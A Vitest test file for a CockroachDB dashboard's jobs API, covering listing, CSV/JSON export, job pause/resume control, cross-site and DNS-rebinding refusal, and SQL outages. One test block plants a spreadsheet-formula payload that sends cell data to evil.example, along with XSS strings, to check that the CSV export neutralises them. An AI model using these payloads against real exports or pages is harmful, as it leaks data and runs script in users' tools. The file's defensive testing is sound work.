import { mkdtempSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { NextRequest } from 'next/server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GET as listRoute } from '@/app/api/v1/clusters/[cluster]/jobs/route';
import { GET as jobRoute } from '@/app/api/v1/clusters/[cluster]/jobs/[jobId]/route';
import { POST as controlRoute } from '@/app/api/v1/clusters/[cluster]/jobs/[jobId]/[action]/route';
import type { DemoCluster } from '@/lib/demo/cluster';
import { auditStore } from '@/lib/auth/audit';
import { configureDashboardFor, query, startFrozen } from './demo-helpers';

/** The jobs routes, called as Next calls them, against a demo cluster configured through the env. */
const CLUSTER = 'jobsapi';
let demo: DemoCluster;
beforeAll(async () => {
  process.env.HISTORY_DB = path.join(mkdtempSync(path.join(os.tmpdir(), 'jobs-api-')), 'history.sqlite');
  demo = await startFrozen({ version: '24.3' });
  configureDashboardFor(demo, CLUSTER);
});
afterAll(() => demo?.stop());

const ctx = <T extends object>(p: T) => ({ params: Promise.resolve(p) });
const list = (qs: string, cluster = CLUSTER) => listRoute(new NextRequest(`http://x/api/v1/clusters/${cluster}/jobs${qs}`), ctx({ cluster }));
const job = (jobId: string) => jobRoute(new Request('http://x'), ctx({ cluster: CLUSTER, jobId }));
// A browser's same-origin POST to a dashboard on loopback (AUTH_MODE=none allows control only there).
const control = (jobId: string, action: string, headers: Record<string, string> = { origin: 'http://127.0.0.1:3000', 'sec-fetch-site': 'same-origin' }) =>
  controlRoute(new Request(`http://127.0.0.1:3000/api/v1/clusters/${CLUSTER}/jobs/${jobId}/${action}`, { method: 'POST', headers: { host: '127.0.0.1:3000', ...headers } }), ctx({ cluster: CLUSTER, jobId, action }));

async function errorOf(res: Response) {
  const body = (await res.json()) as { error: { code: string; message: string } };
  return { status: res.status, ...body.error };
}

describe('GET /api/v1/clusters/{c}/jobs', () => {
  it('answers a page with the SQL it ran and where it read from', async () => {
    const res = await list('?status=failed&from=now-7d&limit=5');
    expect(res.status).toBe(200);
    const body = (await res.json()) as { jobs: { job_id: string; status: string; error: string }[]; next_cursor: string | null; source: string; sql: string };
    expect(body.jobs).toHaveLength(5);
    expect(body.jobs.every((j) => j.status === 'failed' && j.error.length > 0 && typeof j.job_id === 'string')).toBe(true);
    expect(body.source).toBe('crdb_internal.jobs');
    expect(body.sql).toContain(`status IN ('failed')`);
    const next = await list(`?status=failed&from=now-7d&limit=5&cursor=${body.next_cursor}`);
    const page2 = (await next.json()) as { jobs: { job_id: string }[] };
    expect(page2.jobs.map((j) => j.job_id)).not.toContain(body.jobs[4].job_id);
  });

  it.each([
    ['?status=done', /status must be among/],
    ['?from=now&to=now-1h', /must be before to/],
    ['?limit=1000', /limit must be between/],
    ['?cursor=garbage!', /cursor is not valid/],
    ['?node=x', /node must be/],
  ])('400 for %s', async (qs, message) => {
    const e = await errorOf(await list(qs));
    expect(e).toMatchObject({ status: 400, code: 'bad_request' });
    expect(e.message).toMatch(message);
  });

  it('404 for an unknown cluster', async () => {
    expect(await errorOf(await list('', 'nope'))).toMatchObject({ status: 404, code: 'unknown_cluster' });
  });

  it('exports the filter as CSV and JSON downloads', async () => {
    const csv = await list('?status=failed&from=now-7d&format=csv');
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="jobs-jobsapi-.*\.csv"$/);
    const lines = (await csv.text()).trim().split('\r\n');
    expect(lines[0]).toBe('job_id,job_type,description,user_name,status,running_status,created,started,finished,modified,fraction_completed,error,coordinator_id,execution_errors');
    const { rows } = await query<{ n: string }>(demo.sqlUrl, `SELECT count(*) AS n FROM crdb_internal.jobs WHERE status = 'failed' AND job_type IN ('BACKUP','RESTORE') AND finished >= now() - '7 days'::interval`);
    expect(lines.length - 1).toBeGreaterThanOrEqual(Number(rows[0].n));
    const json = await list('?status=failed&from=now-7d&format=json');
    expect(json.headers.get('content-disposition')).toMatch(/\.json"$/);
    const body = (await json.json()) as { jobs: unknown[]; truncated: boolean };
    expect(body.jobs).toHaveLength(lines.length - 1);
    expect(body.truncated).toBe(false);
  });
});

describe('text from the cluster is data', () => {
  const description = `=HYPERLINK("http://evil.example/?"&A1,"open") <img src=x onerror=alert(1)>`;
  const error = '@SUM(1+1) <script>alert(1)</script>';
  let jobId: string;
  beforeAll(async () => {
    // The demo's control API adds a failed job carrying this text (lib/demo/control-api.ts).
    const res = await fetch(`${demo.controlUrl}/jobs`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ job_type: 'IMPORT', description, error, days_ago: 3 }) });
    expect(res.status).toBe(200);
    jobId = ((await res.json()) as { job_id: string }).job_id;
  });

  it('the JSON API returns it verbatim', async () => {
    const body = (await (await job(jobId)).json()) as { job: { description: string; error: string } };
    expect(body.job).toMatchObject({ description, error });
  });

  it('the CSV export neutralises the cells a spreadsheet would run as formulas', async () => {
    const csv = await (await list('?type=IMPORT&status=failed&from=now-14d&format=csv')).text();
    const line = csv.split('\r\n').find((l) => l.startsWith(`${jobId},`));
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"") <img src=x onerror=alert(1)>"`);
    expect(line).toContain(`"'@SUM(1+1) <script>alert(1)</script>"`);
  });
});

describe('GET /api/v1/clusters/{c}/jobs/{id}', () => {
  it('answers the job, every column of this version', async () => {
    const { rows } = await query<{ job_id: string }>(demo.sqlUrl, `SELECT job_id FROM crdb_internal.jobs WHERE status = 'failed' LIMIT 1`);
    const res = await job(String(rows[0].job_id));
    expect(res.status).toBe(200);
    const body = (await res.json()) as { job: { status: string; error: string }; columns: string[] };
    expect(body.job.status).toBe('failed');
    expect(body.job.error).toBeTruthy();
    expect(body.columns).toContain('started');
  });

  it.each([['12ab'], ['12345678901234567890'], ['-1']])('400 for the malformed id %s', async (id) => {
    expect(await errorOf(await job(id))).toMatchObject({ status: 400, code: 'bad_request' });
  });

  it('404 for an unknown job', async () => {
    expect(await errorOf(await job('1'))).toMatchObject({ status: 404, code: 'not_found' });
  });
});

describe('job control', () => {
  it('is refused with 403 unless ENABLE_JOB_CONTROL=true', async () => {
    delete process.env.ENABLE_JOB_CONTROL;
    expect(await errorOf(await control('1', 'pause'))).toMatchObject({ status: 403, code: 'job_control_disabled' });
  });

  it('pauses and resumes a running job when enabled, and passes on CockroachDB errors', async () => {
    process.env.ENABLE_JOB_CONTROL = 'true';
    process.env.HOST = '127.0.0.1';
    try {
      const { rows } = await query<{ job_id: string }>(demo.sqlUrl, `SELECT job_id FROM crdb_internal.jobs WHERE status = 'running' AND job_type = 'BACKUP' LIMIT 1`);
      const id = String(rows[0].job_id);
      const res = await control(id, 'pause');
      expect(res.status).toBe(200);
      expect(await res.json()).toMatchObject({ job_id: id, action: 'pause', statement: `PAUSE JOB ${id}`, command: 'PAUSE', status: expect.stringMatching(/^pause/) });
      const after = await query<{ status: string }>(demo.sqlUrl, 'SELECT status FROM crdb_internal.jobs WHERE job_id = $1', [id]);
      expect(after.rows[0].status).toMatch(/^pause/);
      const bad = await control(id, 'explode');
      expect(bad.status).toBe(404);
      const resumed = await control(id, 'resume');
      expect(resumed.status).toBe(200);
      // The audit trail has both, with CockroachDB's answer.
      const trail = auditStore().list({ kinds: ['job_control'], limit: 2 });
      expect(trail.map((e) => e.statement)).toEqual([`RESUME JOB ${id}`, `PAUSE JOB ${id}`]);
      expect(trail[1]).toMatchObject({ user: 'anonymous', role: 'operator', cluster: CLUSTER, outcome: expect.stringMatching(/^ok: PAUSE; the job is now pause/) });
      // CockroachDB's own refusal is passed on (the demo's error mode answers every statement with it).
      await demo.setSqlFault({ mode: 'error', message: `job ${id}: cannot be resumed: status running` });
      try {
        const e = await errorOf(await control(id, 'resume'));
        expect(e).toMatchObject({ status: 409, code: 'job_control_failed' });
        expect(e.message).toContain(`cannot be resumed: status running`);
        expect(auditStore().list({ limit: 1 })[0].outcome).toMatch(/^failed: .*cannot be resumed/);
      } finally {
        await demo.setSqlFault({ mode: 'ok' });
      }
    } finally {
      delete process.env.ENABLE_JOB_CONTROL;
      delete process.env.HOST;
    }
  });

  it('refuses a cross-site POST, a non-loopback address without sign-in, and control on an open server', async () => {
    process.env.ENABLE_JOB_CONTROL = 'true';
    process.env.HOST = '127.0.0.1';
    try {
      expect(await errorOf(await control('1', 'cancel', { origin: 'https://evil.example' }))).toMatchObject({ status: 403, code: 'cross_site' });
      expect(await errorOf(await control('1', 'cancel', { 'sec-fetch-site': 'cross-site' }))).toMatchObject({ status: 403, code: 'cross_site' });
      // DNS rebinding: another site's name resolved to 127.0.0.1 arrives with its own Host (and Origin).
      const rebound = await controlRoute(new Request('http://evil.example:3000/x', { method: 'POST', headers: { host: 'evil.example:3000', origin: 'http://evil.example:3000' } }), ctx({ cluster: CLUSTER, jobId: '1', action: 'cancel' }));
      expect(await errorOf(rebound)).toMatchObject({ status: 403, code: 'forbidden' });
      process.env.HOST = '0.0.0.0';
      expect(await errorOf(await control('1', 'cancel'))).toMatchObject({ status: 403, code: 'job_control_disabled' });
    } finally {
      delete process.env.ENABLE_JOB_CONTROL;
      delete process.env.HOST;
    }
  });
});

describe('SQL down', () => {
  it('a filter read before answers its last page marked last_known; one never read is a 503 sql_unavailable with a clear message', async () => {
    const before = await list('?limit=3&type=BACKUP');
    expect(before.status).toBe(200);
    const seen = (await before.json()) as { jobs: { job_id: string }[]; last_known: unknown };
    expect(seen.last_known).toBeNull();
    await demo.setSqlFault({ mode: 'refuse' });
    try {
      type Page = { jobs: { job_id: string }[]; last_known: { error: { code: string } } | null };
      let remembered: Page | null = null as Page | null;
      for (let i = 0; i < 50 && !remembered?.last_known; i++) {
        remembered = (await (await list('?limit=3&type=BACKUP')).json()) as Page;
        if (!remembered.last_known) await new Promise((r) => setTimeout(r, 50));
      }
      expect(remembered?.last_known?.error.code).toBe('sql_unavailable');
      expect(remembered?.jobs.map((j) => j.job_id)).toEqual(seen.jobs.map((j) => j.job_id));
      for (let i = 0; i < 50; i++) {
        const res = await list('?limit=1&q=never-read-before');
        if (res.status === 503) {
          const e = await errorOf(res);
          expect(e.code).toBe('sql_unavailable');
          expect(e.message).toMatch(/SQL interface is unreachable/);
          return;
        }
        await new Promise((r) => setTimeout(r, 50));
      }
      throw new Error('never 503');
    } finally {
      await demo.setSqlFault({ mode: 'ok' });
    }
  });
});
